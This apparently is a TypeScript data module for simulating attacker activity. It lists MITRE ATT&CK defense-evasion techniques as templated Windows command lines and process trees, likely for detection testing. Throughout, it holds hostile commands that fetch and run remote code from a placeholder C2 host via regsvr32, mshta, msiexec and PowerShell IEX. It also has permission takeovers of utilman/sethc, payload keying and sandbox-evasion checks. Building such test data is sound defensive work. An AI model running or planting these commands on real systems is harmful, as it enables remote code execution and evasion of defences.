import { NET35, t, v } from "../dsl";
import {
  controlPanelExploitVariants,
  controlPanelVariants,
  installUtilVariants,
  syncAppvVariants,
} from "./defense-evasion-proxy";

const SCRIPTS = "C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US";

/** Defense evasion, continued: system script and binary proxy execution, XSL, templates, permissions, guardrails, sandbox checks. */
export const defenseEvasion2B = [
  t("T1216", "System script proxy execution", "Signed Windows scripts used to launch payloads.", [
    v("pubprn", [`cscript.exe /b ${SCRIPTS}\\pubprn.vbs 127.0.0.1 script:https://{{c2}}/{{rand}}.sct`]),
    v("manage-bde", ["cscript.exe C:\\Windows\\System32\\manage-bde.wsf"]),
  ]),
  t("T1216.001", "PubPrn", "pubprn.vbs with a script: moniker.", [
    v("pubprn", [
      {
        cmd: `cscript.exe /b ${SCRIPTS}\\pubprn.vbs localhost "script:https://{{c2}}/{{rand}}.sct"`,
        net: [["{{c2}}", 443]],
      },
    ]),
  ]),
  t("T1216.002", "SyncAppvPublishingServer", "SyncAppvPublishingServer.vbs/exe running PowerShell.", [
    ...syncAppvVariants,
    v("exe", ['C:\\Windows\\System32\\SyncAppvPublishingServer.exe "n; Start-Process calc"']),
  ]),
  t("T1218", "System binary proxy execution", "Signed binaries launching payloads.", [
    v("rundll32", ["rundll32.exe {{tmp}}\\{{rand}}.dll,Start"]),
    v("regsvr32", ["regsvr32.exe /s /n /u /i:https://{{c2}}/{{rand}}.sct scrobj.dll"]),
  ]),
  t("T1218.001", "Compiled HTML file", "hh.exe opening a CHM with embedded script.", [
    v("hh-local", [
      { cmd: "hh.exe {{downloads}}\\{{Manual|Help|Guide}}.chm", as: "hh" },
      { cmd: "cmd.exe /c powershell -w hidden -nop -c IEX(iwr http://{{c2}}/c)", parent: "hh", as: "c" },
      { cmd: "powershell  -w hidden -nop -c IEX(iwr http://{{c2}}/c)", parent: "c", net: [["{{c2}}", 80]] },
    ]),
    v("hh-remote", [{ cmd: "hh.exe http://{{c2}}/{{rand}}.chm", net: [["{{c2}}", 80]] }]),
  ]),
  t("T1218.002", "Control panel", "control.exe loading a .cpl payload.", [
    ...controlPanelVariants,
    v("control-cpl", [
      { cmd: "control.exe {{tmp}}\\{{rand}}.cpl", as: "c" },
      {
        cmd: '"C:\\Windows\\System32\\rundll32.exe" Shell32.dll,Control_RunDLL {{tmp}}\\{{rand}}.cpl',
        parent: "c",
        loads: ["{{tmp}}\\{{rand}}.cpl"],
      },
    ]),
    v("rundll32-cpl", ["rundll32.exe shell32.dll,Control_RunDLL {{appdata}}\\{{rand}}.cpl"]),
    ...controlPanelExploitVariants,
  ]),
  t("T1218.003", "CMSTP", "cmstp.exe with an INF that runs a payload or bypasses UAC.", [
    v("cmstp-inf", ["cmstp.exe /ni /s {{tmp}}\\{{rand}}.inf"]),
    v("cmstp-au", ["cmstp.exe /s /au C:\\Users\\Public\\{{rand}}.inf"]),
  ]),
  t("T1218.004", "InstallUtil", "InstallUtil running the uninstaller of an attacker assembly.", [
    ...installUtilVariants,
    v("installutil-u", [`${NET35}\\InstallUtil.exe /logfile= /LogToConsole=false /U {{tmp}}\\{{rand}}.dll`]),
    v("installutil-exe", [`${NET35}\\installutil.exe /u C:\\Users\\Public\\{{rand}}.exe`]),
  ]),
  t("T1218.005", "Mshta", "mshta running remote HTA, inline VBScript/JavaScript, or spawned by Office.", [
    v("mshta-url", [{ cmd: "mshta.exe http://{{c2}}/{{rand}}.hta", net: [["{{c2}}", 80]] }]),
    v("mshta-vbscript", [
      {
        cmd: 'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -c IEX(iwr http://{{c2}}/a)"",0:close")',
        as: "mshta",
      },
      {
        cmd: "powershell -nop -w hidden -c IEX(iwr http://{{c2}}/a)",
        parent: "mshta",
        net: [["{{c2}}", 80]],
      },
    ]),
    v("mshta-file", [{ cmd: "mshta.exe {{downloads}}\\{{rand}}.hta", parent: "@explorer" }], {
      shell: "none",
    }),
  ]),
  t("T1218.007", "Msiexec", "msiexec installing a remote MSI quietly or loading a DLL with /y.", [
    v("msiexec-remote", [{ cmd: "msiexec.exe /q /i http://{{c2}}/{{rand}}.msi", net: [["{{c2}}", 80]] }]),
    v("msiexec-y", ["msiexec.exe /y {{tmp}}\\{{rand}}.dll"]),
    v("msiexec-z", ["msiexec.exe /z C:\\Users\\Public\\{{rand}}.dll"]),
  ]),
  t("T1218.008", "Odbcconf", "odbcconf REGSVR loading a DLL.", [
    v("odbcconf-regsvr", ["odbcconf.exe /a {REGSVR {{tmp}}\\{{rand}}.dll}"]),
    v("odbcconf-rsp", ["odbcconf.exe -f {{tmp}}\\{{rand}}.rsp"]),
  ]),
  t("T1218.009", "Regsvcs/Regasm", "RegAsm/RegSvcs loading an attacker assembly.", [
    v("regasm", [`${NET35}\\regasm.exe /U {{tmp}}\\{{rand}}.dll`]),
    v("regsvcs", [`${NET35}\\regsvcs.exe {{tmp}}\\{{rand}}.dll`]),
  ]),
  t("T1218.010", "Regsvr32", "Squiblydoo (scrobj.dll with a remote scriptlet) and DLLs from user folders.", [
    v("squiblydoo", [
      {
        cmd: "regsvr32.exe /s /n /u /i:http://{{c2}}/{{rand}}.sct scrobj.dll",
        net: [["{{c2}}", 80]],
        loads: ["C:\\Windows\\System32\\scrobj.dll"],
      },
    ]),
    v("dll-in-temp", ["regsvr32.exe /s {{tmp}}\\{{rand}}.dll"]),
    v(
      "from-office",
      [
        {
          cmd: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "{{downloads}}\\{{rand}}.xls"`,
          as: "xl",
          parent: "@explorer",
        },
        { cmd: "regsvr32.exe -s C:\\ProgramData\\{{rand}}.ocx", parent: "xl" },
      ],
      { shell: "none" },
    ),
  ]),
  t(
    "T1218.011",
    "Rundll32",
    "rundll32 with DLLs in user paths, ordinal exports, javascript: and URL handlers.",
    [
      v("dll-export", ["rundll32.exe {{appdata}}\\{{rand}}.dll,DllRegisterServer"]),
      v("javascript", [
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://{{c2}}/{{rand}}")',
      ]),
      v("ordinal", ["rundll32.exe C:\\ProgramData\\{{rand}}.dat,#1"]),
      v("url-dll", ['rundll32.exe url.dll,OpenURL "{{tmp}}\\{{rand}}.hta"']),
    ],
  ),
  t("T1218.012", "Verclsid", "verclsid.exe instantiating a COM object.", [
    v("verclsid", ["verclsid.exe /S /C {{{rand2}}-3a19-4b39-a2cc-3b20e3a2ffbe}"]),
  ]),
  t("T1218.013", "Mavinject", "mavinject injecting a DLL into a running process.", [
    v("mavinject", [
      { cmd: "mavinject.exe {pid:@explorer} /INJECTRUNNING {{tmp}}\\{{rand}}.dll", thread: "@explorer" },
    ]),
  ]),
  t("T1218.014", "MMC", "mmc.exe opening an .msc with a malicious snap-in.", [
    v("mmc-msc", [
      { cmd: "mmc.exe -Embedding {{tmp}}\\{{rand}}.msc", as: "mmc" },
      { cmd: "cmd.exe /c powershell -w hidden -c iex(iwr http://{{c2}}/m)", parent: "mmc", as: "c" },
      { cmd: "powershell  -w hidden -c iex(iwr http://{{c2}}/m)", parent: "c", net: [["{{c2}}", 80]] },
    ]),
    v(
      "grimresource",
      [{ cmd: '"C:\\Windows\\system32\\mmc.exe" "{{downloads}}\\{{rand}}.msc"', parent: "@explorer" }],
      { shell: "none" },
    ),
  ]),
  t(
    "T1218.015",
    "Electron applications",
    "A signed Electron app (Teams, VS Code) started with --gpu-launcher or a node option.",
    [
      v("gpu-launcher", [
        {
          cmd: '"{{local}}\\Microsoft\\Teams\\current\\Teams.exe" --disable-gpu-sandbox --gpu-launcher="C:\\Windows\\system32\\cmd.exe /c calc &&"',
          as: "teams",
        },
        // Electron prefixes the GPU process command line with the launcher; cmd runs calc first.
        {
          cmd: 'C:\\Windows\\system32\\cmd.exe /c calc && "{{local}}\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process --disable-gpu-sandbox',
          parent: "teams",
          as: "c",
        },
        { cmd: "calc", parent: "c" },
        {
          cmd: '"{{local}}\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process --disable-gpu-sandbox',
          parent: "c",
        },
      ]),
      v("code-tunnel", [
        '"{{local}}\\Programs\\Microsoft VS Code\\Code.exe" --inspect=9229 {{tmp}}\\{{rand}}.js',
      ]),
    ],
  ),
  t("T1220", "XSL script processing", "wmic /format with a remote XSL, and msxsl.exe.", [
    v("wmic-format", [{ cmd: 'wmic os get /FORMAT:"https://{{c2}}/{{rand}}.xsl"', net: [["{{c2}}", 443]] }]),
    v("msxsl", ["{{tools}}\\msxsl.exe {{tmp}}\\{{rand}}.xml {{tmp}}\\{{rand}}.xsl"]),
  ]),
  t("T1221", "Template injection", "A document fetching a remote template when opened.", [
    v(
      "remote-dotm",
      [
        {
          cmd: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{{downloads}}\\{{rand}}.docx"`,
          parent: "@explorer",
          net: [["{{c2}}", 443]],
          files: ["{{local}}\\Microsoft\\Windows\\INetCache\\Content.Word\\~WRF{{n}}.tmp"],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1222", "Permissions modification", "ACLs opened up with icacls/takeown/attrib.", [
    v("icacls", ["icacls C:\\ProgramData\\{{rand}} /grant Everyone:F /T /C /Q"], { elevated: true }),
  ]),
  t(
    "T1222.001",
    "Windows file and directory permissions",
    "icacls /grant Everyone, takeown and attrib -r -s -h (ransomware prep).",
    [
      v("icacls-everyone", ['icacls "C:\\*" /grant Everyone:F /T /C /Q'], { elevated: true }),
      v(
        "takeown",
        [
          "takeown /f C:\\Windows\\System32\\{{utilman|sethc}}.exe",
          "icacls C:\\Windows\\System32\\utilman.exe /grant administrators:F",
        ],
        { elevated: true },
      ),
      v("attrib", ["attrib -r -s -h /s /d C:\\Users\\*"]),
    ],
  ),
  t("T1480", "Execution guardrails", "A payload that checks the domain before running.", [
    v("domain-check", ["cmd.exe /c if %USERDNSDOMAIN%=={{dns}} {{tmp}}\\{{rand}}.exe"]),
  ]),
  t("T1480.001", "Environmental keying", "Payload decrypted with a key derived from host/domain names.", [
    v(
      "ps-keyed",
      [
        {
          ps: '$k = [Text.Encoding]::UTF8.GetBytes($env:USERDOMAIN + $env:COMPUTERNAME); $b = [IO.File]::ReadAllBytes("$env:TEMP\\{{rand}}.bin"); for($i=0;$i -lt $b.Length;$i++){$b[$i] = $b[$i] -bxor $k[$i % $k.Length]}',
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1480.002", "Mutual exclusion", "A mutex/named pipe checked to avoid double infection.", [
    v("mutex", [{ cmd: "{{tmp}}\\{{rand}}.exe", pipes: ["\\{{rand}}-mtx"] }]),
  ]),
  t("T1497", "Sandbox evasion", "VM and sandbox checks via WMI before detonation.", [
    v("wmic-checks", ["wmic computersystem get model,manufacturer", "wmic bios get serialnumber"]),
  ]),
  t("T1497.001", "System checks", "WMI queries of model, BIOS, disk size and VM tools.", [
    v(
      "wmi-model",
      [
        {
          ps: "Get-WmiObject Win32_ComputerSystem | Select Manufacturer,Model; Get-WmiObject Win32_BIOS | Select SerialNumber; Get-Process vmtoolsd,VBoxService -ErrorAction SilentlyContinue",
        },
      ],
      { shell: "ps" },
    ),
    v("reg-vm", [
      'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Disk\\Enum"',
      'reg query "HKLM\\HARDWARE\\DESCRIPTION\\System" /v SystemBiosVersion',
    ]),
  ]),
  t("T1497.002", "User activity checks", "Mouse movement and recent files checked before running.", [
    v(
      "recent-files",
      [
        {
          ps: '(Get-ChildItem "$env:APPDATA\\Microsoft\\Windows\\Recent").Count; Add-Type -AssemblyName System.Windows.Forms; [System.Windows.Forms.Cursor]::Position',
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1497.003", "Time based checks", "Long sleeps or ping delays before execution.", [
    v("ping-delay", [
      { cmd: "cmd.exe /c ping 127.0.0.1 -n 300 > nul & start {{tmp}}\\{{rand}}.exe", as: "c" },
      // ping -n 300 takes about 300 s; only then does cmd start the payload.
      {
        cmd: "ping  127.0.0.1 -n 300",
        parent: "c",
        keep: true,
        then: [{ id: "done", kind: "process.terminate", delayMs: 299000 }],
      },
      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c" },
    ]),
    v("timeout", ["timeout /t 600 /nobreak"]),
  ]),
];
